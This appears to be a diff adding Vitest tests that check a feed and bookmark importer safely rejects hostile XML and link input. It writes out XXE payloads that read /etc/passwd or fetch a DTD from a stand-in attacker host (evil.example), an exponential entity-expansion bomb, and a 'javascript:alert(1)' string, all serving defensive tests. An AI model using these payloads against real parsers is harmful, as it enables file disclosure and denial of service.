@@ -3,6 +3,7 @@ import { describe, expect, it, vi } from 'vitest';
 import { FORMATS } from '../../../formats/formats';
 import { readFile } from '../../../formats/input/files';
 import type { Imported } from '../../../formats/format';
+import { sentenceOf } from '../../../formats/input/refusal';
 import { expectHarmless } from './harmless';
 import { SAMPLE } from './sample';
 
@@ -118,6 +119,14 @@ const BROKEN: [string, (file: string) => string | Uint8Array][] = [
   ],
 ];
 
+/** Entities that grow without end, or that fetch a file, in front of a file of each kind of markup. */
+const LAUGHS = Array.from({ length: 12 }, (_none, level) => `<!ENTITY l${level + 1} "${`&l${level};`.repeat(10)}">`).join('');
+const DOCTYPES: [string, string, string][] = ['opml', 'schedule-xml', 'bookmarks'].flatMap((id): [string, string, string][] => [
+  [id, 'entities of entities', `<!DOCTYPE x [<!ENTITY l0 "lol">${LAUGHS}]>${FILES[id]?.('&l12;') ?? ''}`],
+  [id, 'an entity of a file', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${FILES[id]?.('&f;') ?? ''}`],
+  [id, 'a parameter entity of an address', `<!DOCTYPE x [<!ENTITY % f SYSTEM "https://evil.example/x.dtd">%f;]>${FILES[id]?.('x') ?? ''}`],
+]);
+
 async function readAll(name: string, content: string | Uint8Array): Promise<Imported[]> {
   const bytes = typeof content === 'string' ? Buffer.from(content) : content;
   const items: Imported[] = [];
@@ -144,6 +153,29 @@ describe('hostile files', () => {
       expectHarmless(items);
       expect(items.length).toBeGreaterThan(0);
     });
+  });
+
+  it.each(DOCTYPES)('%s with %s fetch and expand nothing', async (id, _name, content) => {
+    const items = await readAll(`hostile.${id}`, content);
+    expectHarmless(items);
+    expect(items.length).toBeGreaterThan(0);
+    expect(JSON.stringify(items)).not.toMatch(/(?:lol){2}|root:/);
+  });
+
+  it.each(Object.entries(FILES))('%s say in one line what is refused, with the file and, for an item, its line', async (id, fileWith) => {
+    const files = [fileWith('javascript:alert(1)'), ...BROKEN.map(([, broken]) => broken(fileWith('x')))];
+    for (const file of files) {
+      for (const item of await readAll(`list.${id}`, file)) {
+        if (!('refused' in item)) continue;
+        const sentence = sentenceOf(item, `list.${id}`);
+        expect(sentence).toMatch(/^list\.[\w-]+(?::\d+)?: [A-Z][^\n]*$/);
+        expect(sentence).not.toMatch(/\bat .*:\d+:\d+|Error\b|undefined|\[object/);
+        // A whole file that is no text, or of no format, has no line to name; nor has a value of JSON, whose parser tells none.
+        const named =
+          item.line !== undefined || /^(encoding|unknown|empty|too large)$/.test(item.refused) || id.endsWith('json') || id === 'pyvideo';
+        expect(named, sentence).toBe(true);
+      }
+    }
   });
 
   it.each([
